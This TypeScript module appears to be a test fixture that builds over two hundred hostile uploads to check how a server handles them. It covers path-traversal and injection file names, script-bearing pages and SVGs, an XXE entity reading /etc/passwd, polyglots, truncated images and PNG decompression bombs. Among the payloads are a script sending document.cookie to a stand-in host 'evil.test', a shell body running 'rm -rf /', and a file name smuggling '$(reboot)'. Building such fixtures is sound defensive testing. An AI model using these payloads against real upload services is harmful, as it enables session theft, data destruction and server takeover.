import { deflateSync } from 'node:zlib';
import { pdf, photograph } from './pictures.ts';

export interface HostileFile {
  readonly about: string;
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
}

const bytesOf = (text: string | Buffer): Uint8Array<ArrayBuffer> => Uint8Array.from(Buffer.from(text as string));
const joined = (...parts: (string | Uint8Array)[]) => bytesOf(Buffer.concat(parts.map((part) => Buffer.from(part))));

const NAMES = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'C:\\autoexec.bat',
  'a\0.jpg',
  'a.jpg\0.html',
  'a.html',
  'a.svg',
  'a.php.jpg',
  'a.jpg.exe',
  '.htaccess',
  '....',
  '',
  ' ',
  `${'x'.repeat(300)}.jpg`,
  `${'é'.repeat(300)}.pdf`,
  '\u202Egpj.exe',
  'שלום עולם.jpg',
  'مرحبا.pdf',
  '照片.jpg',
  '👩‍👧‍👦.jpg',
  'a\r\nSet-Cookie: stolen=1.jpg',
  'a";filename*=evil.html',
  "a'; drop table upload;--.jpg",
  '<img src=x onerror=alert(1)>.jpg',
  '=cmd|calc!A1.xlsx',
  'CON',
  'aux.jpg',
  '%2e%2e%2fpasswd',
  'a$(reboot).pdf',
  'a.pdf ',
  'a.jpg.',
];

const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>';
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');

/** At least two hundred files that want to be something else than they say, to be too much, or to lie somewhere else. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = await photograph({ width: 64, height: 48 });
  const contents: [string, Uint8Array<ArrayBuffer>][] = [
    ['a photo', photo],
    ['a PDF', pdf()],
    ['a page', bytesOf(`<!doctype html>${SCRIPT}`)],
    ['a photo that ends as a page', joined(photo, `<html>${SCRIPT}`)],
  ];
  const named = NAMES.flatMap((name) =>
    contents.map(([about, bytes]) => ({ about: `${about} of a bad name`, name, bytes })),
  );
  return [...named, ...texts(), ...polyglots(photo), ...damaged(photo), ...bombs()];
}

function texts(): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
  const bodies: [string, string][] = [
    ['SVG with a script', svg],
    ['SVG with a declaration', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`],
    ['a page without a head', SCRIPT],
    ['a page after a long space', `${' '.repeat(2000)}<html>${SCRIPT}`],
    ['a byte order mark and a page', `\uFEFF<html>${SCRIPT}`],
    ['EICAR', EICAR],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['JavaScript', 'alert(1)'],
    ['a manifest', 'CACHE MANIFEST\n/\n'],
    ['XML', '<?xml version="1.0"?><a/>'],
    ['MathML', `<math><mtext>${SCRIPT}</mtext></math>`],
  ];
  return bodies.flatMap(([about, body]) =>
    ['a.jpg', 'a.png', 'a.pdf', 'a.docx'].map((name) => ({ about, name, bytes: bytesOf(body) })),
  );
}

function polyglots(photo: Uint8Array<ArrayBuffer>): HostileFile[] {
  const page = `<html>${SCRIPT}</html>`;
  return [
    { about: 'GIF and JavaScript', name: 'a.gif', bytes: bytesOf('GIF89a/*\0\0*/=1;alert(1)//') },
    { about: 'GIF and page', name: 'a.gif', bytes: joined('GIF89a', page) },
    { about: 'a page before a PDF', name: 'a.pdf', bytes: joined(page, pdf()) },
    { about: 'a PDF after one line', name: 'a.pdf', bytes: joined('\n', pdf()) },
    { about: 'a PDF that ends as a zip', name: 'a.pdf', bytes: joined(pdf(), 'PK\x03\x04', 'x'.repeat(60)) },
    { about: 'a photo that ends as a PDF', name: 'a.jpg', bytes: joined(photo, pdf()) },
    { about: 'a photo with a comment', name: 'a.jpg', bytes: withComment(photo, page) },
    { about: 'a photo called HTML', name: 'a.html', bytes: photo },
    { about: 'a PDF with JavaScript', name: 'a.pdf', bytes: pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>') },
    { about: 'an old Office file of unknown name', name: 'a.msi', bytes: bytesOf(CFB) },
    { about: 'an old Office file with macros', name: 'a.doc', bytes: joined(CFB, 'Attribut\0e VB_Name = "AutoOpen"') },
    { about: 'a program', name: 'a.jpg', bytes: joined('MZ', 'x'.repeat(500)) },
    { about: 'an ELF program', name: 'a.pdf', bytes: joined('\x7fELF', 'x'.repeat(500)) },
    { about: 'a zip', name: 'a.docx', bytes: joined('PK\x03\x04', 'x'.repeat(500)) },
    { about: 'an empty zip', name: 'a.xlsx', bytes: joined('PK\x05\x06', '\0'.repeat(18)) },
    { about: 'a Java archive', name: 'a.docx', bytes: joined('\xca\xfe\xba\xbe', 'x'.repeat(500)) },
    { about: 'a film', name: 'a.jpg', bytes: joined('\0\0\0\x18ftypmp42', 'x'.repeat(500)) },
  ];
}
const CFB = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]);

/** Cut short at many places, and with bytes turned. */
function damaged(photo: Uint8Array<ArrayBuffer>): HostileFile[] {
  const cuts = [1, 2, 3, 4, 10, 20, 50, 100, 200, 300, 400, photo.length - 1].map((length) => ({
    about: `a photo cut after ${length} bytes`,
    name: 'a.jpg',
    bytes: photo.slice(0, length),
  }));
  const turned = [20, 60, 120, 180, 240, 300].map((place) => {
    const bytes = photo.slice();
    for (let i = place; i < place + 8 && i < bytes.length; i += 1) bytes[i] = 255 - (bytes[i] ?? 0);
    return { about: `a photo turned at ${place}`, name: 'a.jpg', bytes };
  });
  return [...cuts, ...turned, { about: 'nothing', name: 'a.jpg', bytes: new Uint8Array() }];
}

/** Small files that become enormous pictures. */
function bombs(): HostileFile[] {
  return [
    [30_000, 30_000],
    [65_000, 65_000],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [0, 0],
    [10_000, 10_000],
  ].map(([width = 0, height = 0]) => ({
    about: `${width} x ${height} pixels`,
    name: 'a.png',
    bytes: png(width, height),
  }));
}

function png(width: number, height: number): Uint8Array<ArrayBuffer> {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(Math.min(20_000_000, Math.ceil(width / 8 + 1) * Math.min(height, 30_000))));
  return joined(
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const whole = Buffer.alloc(body.length + 8);
  whole.writeUInt32BE(data.length, 0);
  body.copy(whole, 4);
  whole.writeUInt32BE(crc(body), body.length + 4);
  return whole;
}
function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

/** A JPEG with a comment after its beginning, which a careless server would pass on. */
function withComment(photo: Uint8Array, text: string): Uint8Array<ArrayBuffer> {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return joined(photo.slice(0, 2), Buffer.from([0xff, 0xfe]), length, text, photo.slice(2));
}
